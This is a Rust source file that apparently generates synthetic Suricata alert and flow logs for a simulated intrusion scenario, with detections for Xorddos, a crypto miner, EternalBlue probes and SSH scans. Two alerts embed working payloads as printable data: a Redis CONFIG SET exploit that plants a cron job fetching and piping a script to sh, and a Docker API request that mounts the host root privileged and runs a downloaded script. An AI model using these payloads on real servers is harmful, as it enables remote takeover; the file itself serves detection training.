//! the story → Suricata's alerts and flows for addresses of the fleet.

use super::alibaba::{address_of, peer};
use super::json::{Value, object};
use super::servers::GUESSER;
use super::{DOCKER, HOUR_MILLIS, LOADER, REDIS, Random, START_MILLIS, Story, windows};

struct Alert<'a> {
    time: i64,
    from: (&'a str, i64),
    to: (&'a str, i64),
    signature: (i64, &'a str, &'a str),
    http: Option<(&'a str, &'a str)>,
    /// What was sent, as far as it can be printed.
    payload: Option<String>,
}

pub(super) fn eve(story: &Story) -> String {
    let mut random = Random::new(71);
    let mut rows: Vec<(i64, String)> = Vec::new();
    // Flows: the work of the fleet, and what the gangs' processes talked to, seen or not.
    for hour in 0..48 {
        for _ in 0..8 {
            let time = START_MILLIS + hour * HOUR_MILLIS + random.below(3_500_000) as i64;
            let from = &story.hosts[random.below(40) as usize].1;
            let to = &story.hosts[random.below(40) as usize].1;
            let port = [443, 3306, 6379, 5432, 8080][random.below(5) as usize];
            rows.push((time, flow(time, from, to, port, &mut random)));
        }
    }
    for event in story.events.iter().filter(|it| it.gang.is_some()) {
        if let Some((to, port)) = peer(event).filter(|_| random.permille(400)) {
            let time = event.time_millis + 40;
            rows.push((time, flow(time, story.address(&event.host), &to, port, &mut random)));
        }
    }
    for (time, from, to) in windows::attacks() {
        rows.push((time, flow(time, from, to, 445, &mut random)));
    }
    for alert in alerts(story) {
        rows.push((alert.0, alert.1));
    }
    rows.sort_by_key(|it| it.0);
    rows.into_iter().flat_map(|it| [it.1, "\n".to_owned()]).collect()
}

/// Only some of the hosts are named: sensors watch some links, and know some servers.
fn alerts(story: &Story) -> Vec<(i64, String)> {
    let mut rows = Vec::new();
    if let Some(it) = story.of(LOADER, "app-01").find(|it| it.image == "/usr/bin/ujuyfa5") {
        rows.push(alert(&Alert {
            time: it.time_millis + 350,
            from: (story.address("app-01"), 41_020),
            to: ("115.159.189.241", 48_080),
            signature: (2_030_001, "ET MALWARE ELF/Xorddos CnC Checkin", "A Network Trojan was detected"),
            http: None,
            payload: None,
        }));
    }
    let pool = story.value(REDIS, 0, "pool");
    let (address, port) = address_of(pool);
    if let Some(it) = story.of(REDIS, "redis-01").find(|it| it.cmd_line.contains(pool)) {
        rows.push(alert(&Alert {
            time: it.time_millis + 2_000,
            from: (story.address("redis-01"), 50_332),
            to: (&address, port),
            signature: (2_024_792, "ET POLICY Cryptocurrency Miner Checkin", "Potential Corporate Privacy Violation"),
            http: None,
            payload: None,
        }));
    }
    for (gang, wave, host) in [(REDIS, 0, "redis-01"), (DOCKER, 0, "docker-01")] {
        let script = story.value(gang, wave, "script");
        let server = story.value(gang, wave, "server");
        let (address, port) = address_of(server);
        if let Some(it) = story.of(gang, host).find(|it| it.image.ends_with("/curl") && it.cmd_line.ends_with(script)) {
            rows.push(alert(&Alert {
                time: it.time_millis + 90,
                from: (story.address(host), 39_114),
                to: (&address, port),
                signature: (
                    2_034_111,
                    "ET HUNTING Shell script downloaded from a known download source",
                    "Misc Attack",
                ),
                http: Some((server.split(':').next().unwrap_or(server), script)),
                payload: None,
            }));
        }
    }
    let entry = story.entry(LOADER, "web-02");
    rows.push(alert(&Alert {
        time: entry - 600_000,
        from: (GUESSER, 51_001),
        to: (story.address("backup-01"), 22),
        signature: (2_001_219, "ET SCAN Potential SSH Scan", "Attempted Information Leak"),
        http: None,
        payload: None,
    }));
    let script = story.value(REDIS, 0, "script");
    rows.push(alert(&Alert {
        time: story.entry(REDIS, "redis-02") - 21_000,
        from: ("203.0.113.102", 44_410),
        to: (story.address("redis-02"), 6379),
        signature: (2_024_912, "ET EXPLOIT Redis CONFIG SET dir to a cron folder", "Attempted Administrator Privilege Gain"),
        http: None,
        payload: Some(format!(
            "*4..$6..config..$3..set..$3..dir..$15../var/spool/cron..*4..$6..config..$3..set..$10..dbfilename..$4..root..\
             *3..$3..set..$1..x..$99......*/15 * * * * (curl -fsSL {script}||wget -q -O- {script})|sh......*1..$4..save.."
        )),
    }));
    let script = story.value(DOCKER, 0, "script");
    rows.push(alert(&Alert {
        time: story.entry(DOCKER, "docker-01") - 900,
        from: ("203.0.113.118", 40_231),
        to: (story.address("docker-01"), 2375),
        signature: (2_027_712, "ET EXPLOIT Docker API container create with the host's root", "Attempted Administrator Privilege Gain"),
        http: None,
        payload: Some(format!(
            "POST /v1.24/containers/create HTTP/1.1..Host: 10.20.0.1:2375..User-Agent: Go-http-client/1.1..Content-Type: \
             application/json....{{\"Image\":\"alpine\",\"Cmd\":[\"chroot\",\"/mnt\",\"/bin/sh\",\"-c\",\"curl -s {script} | bash; \
             wget -q -O - {script} | bash\"],\"HostConfig\":{{\"Binds\":[\"/:/mnt\"],\"Privileged\":true,\"NetworkMode\":\"host\"}}}}"
        )),
    }));
    if let Some((time, from, to)) = windows::attacks().into_iter().find(|it| it.2 == "192.168.0.4") {
        rows.push(alert(&Alert {
            time: time + 20,
            from: (from, 49_711),
            to: (to, 445),
            signature: (
                2_024_218,
                "ET EXPLOIT Possible ETERNALBLUE Probe MS17-010 (CVE-2017-0144)",
                "Attempted Administrator Privilege Gain",
            ),
            http: None,
            payload: None,
        }));
    }
    rows
}

fn alert(it: &Alert<'_>) -> (i64, String) {
    let (id, signature, category) = it.signature;
    let rule = object(&[
        ("action", "allowed".into()),
        ("gid", 1.into()),
        ("signature_id", id.into()),
        ("rev", 3.into()),
        ("signature", signature.into()),
        ("category", category.into()),
        ("severity", 1.into()),
    ]);
    let http = it.http.map(|(host, url)| {
        let path = url.strip_prefix("http://").and_then(|it| it.find('/').map(|at| &it[at..])).unwrap_or("/");
        object(&[
            ("hostname", host.into()),
            ("http_port", it.to.1.into()),
            ("url", path.into()),
            ("http_user_agent", "curl/7.68.0".into()),
            ("http_method", "GET".into()),
            ("protocol", "HTTP/1.1".into()),
            ("status", 200.into()),
        ])
    });
    let mut own = vec![("alert", Value::Json(&rule))];
    own.extend(http.as_ref().map(|it| ("http", Value::Json(it))));
    own.extend(it.payload.as_ref().map(|it| ("payload_printable", it.into())));
    (it.time, event("alert", it.time, it.from, it.to, own))
}

fn flow(time: i64, from: &str, to: &str, port: i64, random: &mut Random) -> String {
    let stamp = super::rfc3339(time).replace('Z', "000+0000");
    let numbers = object(&[
        ("pkts_toserver", (random.between(4, 40) as i64).into()),
        ("pkts_toclient", (random.between(3, 40) as i64).into()),
        ("bytes_toserver", (random.between(300, 9000) as i64).into()),
        ("bytes_toclient", (random.between(300, 90_000) as i64).into()),
        ("start", (&stamp).into()),
        ("state", "closed".into()),
        ("reason", "timeout".into()),
    ]);
    event(
        "flow",
        time,
        (from, random.between(32_768, 60_999) as i64),
        (to, port),
        vec![("flow", Value::Json(&numbers))],
    )
}

fn event(kind: &str, time: i64, from: (&str, i64), to: (&str, i64), own: Vec<(&str, Value<'_>)>) -> String {
    let stamp = super::rfc3339(time).replace('Z', "000+0000");
    let mut fields = vec![
        ("timestamp", (&stamp).into()),
        ("flow_id", (time * 31 + from.1).into()),
        ("in_iface", "eth1".into()),
        ("event_type", kind.into()),
        ("src_ip", from.0.into()),
        ("src_port", from.1.into()),
        ("dest_ip", to.0.into()),
        ("dest_port", to.1.into()),
        ("proto", "TCP".into()),
    ];
    fields.extend(own);
    object(&fields)
}
